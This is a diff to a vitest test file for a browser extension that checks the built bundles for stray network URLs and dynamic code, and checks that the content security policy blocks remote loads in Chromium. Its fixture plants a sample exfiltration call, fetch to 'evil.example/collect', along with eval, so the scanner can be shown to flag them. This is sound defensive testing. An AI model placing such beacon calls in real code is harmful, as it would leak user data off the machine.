@@ -1,9 +1,10 @@
 import { mkdtempSync, mkdirSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
-import { afterEach, describe, expect, it } from 'vitest';
-import { scanBundle } from '../../scripts/scan-bundle.mjs';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { bundledCitations, scanBundle } from '../../scripts/scan-bundle.mjs';
 import { EXTENSION_DIR, launch, type Session } from './harness';
+import { extensionPages } from './trust-pages';
 
 const outDir = resolve(process.env.COCREATE_OUT_DIR ?? '.output');
 
@@ -19,27 +20,41 @@ describe('nothing leaked: the built bundles', () => {
     mkdirSync(join(dir, 'chunks'));
     writeFileSync(
       join(dir, 'chunks', 'x.js'),
-      'fetch("https://evil.example/collect?d=1");eval(x);const f=new Function("return 1");const ns="http://www.w3.org/2000/svg";',
+      'fetch("https://evil.example/collect?d=1");eval(x);const f=new Function("return 1");const ns="http://www.w3.org/2000/svg";' +
+        'const cited="https://doi.org/10.1/cited(1)x",uncited="https://doi.org/10.1/other";',
     );
-    const { urls, dynamicCode, allowedUrls } = scanBundle(dir);
-    expect(urls.map((u) => u.url)).toEqual(['https://evil.example/collect?d=1']);
+    const { urls, dynamicCode, allowedUrls } = scanBundle(dir, ['https://doi.org/10.1/cited(1)x']);
+    expect(urls.map((u) => u.url)).toEqual([
+      'https://evil.example/collect?d=1',
+      'https://doi.org/10.1/other',
+    ]);
     expect(dynamicCode.map((d) => d.kind)).toEqual(['eval(', 'new Function']);
-    expect(allowedUrls.map((u) => u.url)).toEqual(['http://www.w3.org/2000/svg']);
+    expect(allowedUrls.map((u) => u.url)).toEqual([
+      'http://www.w3.org/2000/svg',
+      'https://doi.org/10.1/cited',
+    ]);
+  });
+
+  it('allows only the exact source links that the bundled option grids cite', () => {
+    const citations = bundledCitations();
+    expect(citations.length).toBeGreaterThan(10);
+    for (const url of citations) expect(url).toMatch(/^https:\/\/[^/]+\.[a-z]+\//);
   });
 });
 
-/** Extension pages to probe; later pages join the list as they land. */
-const PAGES = ['sidepanel.html', 'options.html'];
+/** Every extension page in the build, listed from entrypoints/ so new pages are probed as they land. */
+const PAGES = extensionPages();
 
 describe('nothing leaked: the content security policy in real Chromium', () => {
-  let session: Session | undefined;
-  afterEach(async () => {
-    await session?.close();
-    session = undefined;
+  let session: Session;
+  beforeAll(async () => {
+    session = await launch();
+  });
+  afterAll(async () => {
+    await session.close();
   });
 
   it.each(PAGES)('%s refuses inline script, remote script, fetch and remote images', async (path) => {
-    session = await launch();
     const page = await session.openExtensionPage(path);
     await page.waitForLoadState('load');
     // page.evaluate itself is exempt from CSP, so it only plants content the page would then run.
@@ -99,6 +114,7 @@ describe('nothing leaked: the content security policy in real Chromium', () => {
       ]),
     );
     expect(session.offMachineRequests).toEqual([]);
+    await page.close();
   });
 
   it('the extension under test is the freshly built one', () => {
